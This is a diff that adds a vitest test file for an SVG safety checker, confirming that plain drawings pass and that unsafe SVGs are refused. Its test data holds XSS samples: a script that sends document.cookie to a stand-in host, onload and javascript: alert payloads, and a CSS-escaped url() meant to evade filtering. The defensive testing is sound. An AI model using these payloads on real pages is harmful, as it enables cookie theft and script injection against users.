@@ -1,0 +1,36 @@
+import { describe, expect, it } from "vitest";
+import { svgProblems } from "../../src/stages/5-layout/svg-check.js";
+
+/** Issue 28, problem 2: an SVG with script, handlers, foreignObject or external references is refused. */
+
+const SVG = (inner: string, attrs = "") =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attrs}>${inner}</svg>`;
+
+describe("SVG check", () => {
+  it("accepts a plain drawing with gradients, fragment references and an XML declaration", async () => {
+    const plain = `<?xml version="1.0" encoding="UTF-8"?>\n${SVG(
+      '<defs><linearGradient id="g"><stop offset="0" stop-color="#123"/></linearGradient></defs><rect width="10" height="10" fill="url(#g)"/><use href="#g"/><text x="1" y="5">Unit</text>',
+    )}`;
+    expect(await svgProblems(plain)).toEqual([]);
+  });
+
+  it.each([
+    ["a script", SVG('<script>fetch("https://x.example/?c="+document.cookie)</script><rect/>'), /<script>/],
+    ["an event handler", SVG('<rect width="1" height="1" onload="alert(1)"/>'), /onload=/],
+    ["foreignObject", SVG("<foreignObject><div>x</div></foreignObject>"), /foreignObject/i],
+    ["an external image", SVG('<image xlink:href="https://evil.example/t.png"/>'), /external reference/],
+    ["a javascript: link", SVG('<a href="javascript:alert(1)"><rect/></a>'), /href/],
+    ["a remote url() in a style", SVG("<style>rect{fill:url(https://e.example/a)}</style><rect/>"), /url\(https/],
+    ["an escaped url in a style", SVG('<rect style="fill:u\\72l(https://e.example/a)"/>'), /CSS escape/],
+    ["a prefixed script", SVG("<x:script>alert(1)</x:script>", ' xmlns:x="http://www.w3.org/2000/svg"'), /script/],
+    ["an entity", `<!DOCTYPE svg [<!ENTITY x "a">]>${SVG("<text>&x;</text>")}`, /entities/],
+    [
+      "an xml-stylesheet",
+      `<?xml-stylesheet href="https://e.example/x.xsl" type="text/xsl"?>${SVG("")}`,
+      /processing instruction/,
+    ],
+  ])("refuses %s", async (_name, text, expected) => {
+    const problems = await svgProblems(text);
+    expect(problems.join("; ")).toMatch(expected);
+  });
+});
